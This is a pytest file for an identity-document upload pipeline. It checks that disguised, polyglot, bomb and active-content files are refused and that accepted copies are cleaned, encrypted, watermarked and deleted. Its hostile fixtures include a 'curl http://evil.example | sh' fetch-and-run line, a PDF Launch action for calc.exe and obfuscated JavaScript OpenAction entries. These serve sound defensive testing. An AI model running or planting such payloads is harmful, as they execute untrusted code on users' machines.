"""The ID-copy pipeline against hostile files built here: each refused with its own reason;
good copies cleaned, encrypted at rest, watermarked when shown, deleted after the decision."""

from __future__ import annotations

import io
import struct
import zlib
from datetime import timedelta
from typing import Any

import pytest
from PIL import Image, ImageDraw
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from reportlab.pdfgen import canvas
from sqlalchemy import select, update

from dsr.audit import AuditEvent
from dsr.config import VerificationSchema
from dsr.context import Services
from dsr.crypto import Cipher
from dsr.documents import Document, DocumentStore
from dsr.requests.models import Request
from dsr.verification import id_copies
from dsr.verification.id_copies import IdCopyRefused, clean
from dsr.verification.models import VerificationStep
from tests.support.clock import CLOCK
from tests.support.verification import new_request

LIMITS = {"max_bytes": 10 * 1024 * 1024, "max_pixels": 40_000_000}


def picture(fmt: str = "JPEG", size: tuple[int, int] = (900, 600), ink: bool = True,
            **save: Any) -> bytes:
    image = Image.new("RGB", size, "white")
    if ink:
        draw = ImageDraw.Draw(image)
        draw.rectangle((30, 30, size[0] - 30, size[1] - 30), outline="black", width=6)
        for y in range(90, size[1] - 90, 40):
            draw.line((70, y, size[0] - 150, y), fill="black", width=8)
    out = io.BytesIO()
    image.save(out, format=fmt, **save)
    return out.getvalue()


def pdf(text: str | None = "Personalausweis Jürgen Weiß", author: str = "") -> bytes:
    out = io.BytesIO()
    sheet = canvas.Canvas(out)
    if author:
        sheet.setAuthor(author)
    if text:
        sheet.drawString(72, 720, text)
    sheet.showPage()
    sheet.save()
    return out.getvalue()


def refused(data: bytes, **limits: int) -> str:
    with pytest.raises(IdCopyRefused) as caught:
        clean(data, **(LIMITS | limits))
    return caught.value.code


def test_html_or_script_named_pdf_is_refused() -> None:
    assert refused(b"<!DOCTYPE html><html><body><script>fetch('/x')</script></body></html>") == "type"
    assert refused(b"#!/bin/sh\ncurl http://evil.example | sh\n") == "type"
    assert refused(b"<html><script>alert(1)</script></html>\n" + pdf()) in ("type", "polyglot")
    assert refused(b"MZ\x90\x00" + b"\x00" * 200) == "type"


def test_polyglots_are_refused() -> None:
    assert refused(picture() + pdf()) == "polyglot"  # JPEG with a PDF behind it
    zipped = io.BytesIO()
    import zipfile
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("run.js", "alert(1)")
    assert refused(picture("PNG") + zipped.getvalue()) == "polyglot"  # PNG + ZIP
    assert refused(picture(comment=b"<script>alert(1)</script>")) == "polyglot"
    assert refused(pdf() + b"\n%<html><script>alert(1)</script>\n") == "polyglot"


def _png_claiming(width: int, height: int) -> bytes:
    small = picture("PNG", size=(300, 300))
    ihdr = struct.pack(">II", width, height) + small[24:29]
    chunk = b"IHDR" + ihdr
    return small[:8] + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk)) + small[33:]


def test_image_bombs_are_refused() -> None:
    assert refused(_png_claiming(60_000, 60_000)) == "bomb"
    assert refused(picture(size=(1200, 1000)), max_pixels=1_000_000) == "bomb"


def test_encrypted_and_active_pdfs_are_refused() -> None:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user_password="geheim", owner_password="geheim")
    locked = io.BytesIO()
    writer.write(locked)
    assert refused(locked.getvalue()) == "pdf_encrypted"
    scripted = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.alert('hi');")})
    scripted.root_object[NameObject("/OpenAction")] = scripted._add_object(action)
    out = io.BytesIO()
    scripted.write(out)
    assert refused(out.getvalue()) == "pdf_active"
    escaped = pdf().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (x) >>")
    assert refused(escaped) == "pdf_active"
    launch = pdf().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /Launch /F (calc.exe) >>")
    assert refused(launch) == "pdf_active"


def test_blank_tiny_empty_large_and_broken_files_are_refused() -> None:
    assert refused(picture(ink=False)) == "blank"
    speck = Image.new("L", (900, 600), 255)
    speck.putpixel((10, 10), 0)
    out = io.BytesIO()
    speck.save(out, format="PNG")
    assert refused(out.getvalue()) == "blank"
    assert refused(pdf(text=None)) == "blank"
    assert refused(picture(size=(150, 90))) == "too_small"
    assert refused(b"") == "empty"
    big = picture(size=(3000, 2000), quality=100)
    assert refused(big, max_bytes=len(big) - 1) == "too_large"
    assert refused(picture()[:2000]) == "broken"


def test_images_are_reencoded_without_metadata() -> None:
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"  # Make
    exif[0x010E] = "GPS 48.1374 11.5755"  # ImageDescription
    original = picture(exif=exif.tobytes())
    assert b"SecretCam" in original
    copy = clean(original, **LIMITS)
    assert copy.content_type == "image/jpeg" and copy.extension == "jpg"
    assert b"SecretCam" not in copy.data and b"Exif" not in copy.data
    assert Image.open(io.BytesIO(copy.data)).size == (900, 600)
    assert clean(picture("PNG"), **LIMITS).content_type == "image/png"


def test_pdfs_keep_their_pages_but_not_their_metadata() -> None:
    copy = clean(pdf(author="Max Mustermann"), **LIMITS)
    assert copy.content_type == "application/pdf"
    assert b"Max Mustermann" not in copy.data
    assert "Personalausweis" in PdfReader(io.BytesIO(copy.data)).pages[0].extract_text()


def test_shown_copies_carry_the_watermark() -> None:
    image = clean(picture(), **LIMITS).data
    marked = Image.open(io.BytesIO(id_copies.shown(image, "image/jpeg", "DSR-TEST123"))).convert("RGB")
    raw = marked.tobytes()
    reddish = sum(1 for i in range(0, len(raw), 3) if raw[i] - raw[i + 1] > 50)
    assert reddish > 5000  # red text across a black-and-white scan
    paper = id_copies.shown(clean(pdf(), **LIMITS).data, "application/pdf", "DSR-TEST123")
    text = PdfReader(io.BytesIO(paper)).pages[0].extract_text()
    assert "only for identity verification" in text and "Identitätsprüfung" in text


def test_stored_encrypted_readable_after_key_rotation(tmp_path: Any) -> None:
    from cryptography.fernet import Fernet

    old, new = Fernet.generate_key().decode(), Fernet.generate_key().decode()
    data = clean(pdf(), **LIMITS).data
    store = DocumentStore(tmp_path, Cipher([old], "s"), CLOCK)

    class _Session:
        def add(self, doc: Document) -> None:
            self.doc = doc

        def flush(self) -> None:
            pass

    fake = _Session()
    doc = store.put(fake, request_id=None, kind="id_copy", filename="x.pdf",  # type: ignore[arg-type]
                    content_type="application/pdf", data=data)
    raw = (tmp_path / doc.storage_key[:2] / doc.storage_key).read_bytes()
    assert b"%PDF" not in raw and b"Personalausweis" not in raw
    rotated = DocumentStore(tmp_path, Cipher([new, old], "s"), CLOCK)
    assert rotated.read(doc) == data


def test_upload_decision_and_deletion_are_recorded(demo_services: Services) -> None:
    settings = {**demo_services.config.verification}
    request_id = new_request(demo_services, channel="letter")
    with demo_services.db.session() as session:
        req = session.get(Request, request_id)
        with pytest.raises(IdCopyRefused):
            id_copies.store(session, demo_services.documents, req, b"<html></html>",
                            settings=settings, actor="user:1", uploaded_by_id=None)
        doc = id_copies.store(session, demo_services.documents, req, picture(), settings=settings,
                              actor="customer", uploaded_by_id=None)
        raw = (demo_services.config.documents_dir / doc.storage_key[:2] / doc.storage_key).read_bytes()
        assert b"\xff\xd8\xff" not in raw and b"JFIF" not in raw
        assert id_copies.decide(session, demo_services.documents, req, actor="user:2",
                                accepted=False, settings=settings) == 1
        assert req.status == "awaiting_verification"  # refused: the coordinator decides next
        steps = [(s.kind, s.outcome, s.details.get("why")) for s in session.scalars(
            select(VerificationStep).where(VerificationStep.request_id == request_id))]
        assert ("id_copy", "refused", "type") in steps and ("id_copy_decision", "refused", None) in steps
        assert session.scalars(select(AuditEvent).where(
            AuditEvent.action == "document_deleted")).one().details["kind"] == "id_copy"
    assert not any(p.is_file() for p in demo_services.config.documents_dir.rglob("*"))


def test_deletion_can_wait_a_configured_number_of_days(demo_services: Services) -> None:
    from dsr.verification.jobs import expire_id_copies

    demo_services.config.verification = {**demo_services.config.verification,
                                         "id_copy_delete_after_days": 2}
    request_id = new_request(demo_services, channel="letter")
    with demo_services.db.session() as session:
        req = session.get(Request, request_id)
        id_copies.store(session, demo_services.documents, req, picture(),
                        settings=demo_services.config.verification, actor="customer",
                        uploaded_by_id=None)
        assert id_copies.decide(session, demo_services.documents, req, actor="user:2",
                                accepted=True, settings=demo_services.config.verification,
                                name_check="match") == 0
        assert req.status == "verified"
    assert expire_id_copies(demo_services) == {"deleted": 0}
    with demo_services.db.session() as session:
        session.execute(update(VerificationStep).values(created_at=CLOCK.now() - timedelta(days=3)))
    assert expire_id_copies(demo_services) == {"deleted": 1}
    with demo_services.db.session() as session:
        assert session.scalars(select(Document)).one().deleted_at is not None


def test_defaults_are_documented() -> None:
    defaults = VerificationSchema().load({})
    assert defaults["id_copy_delete_after_days"] == 0 and defaults["code_attempts"] == 5
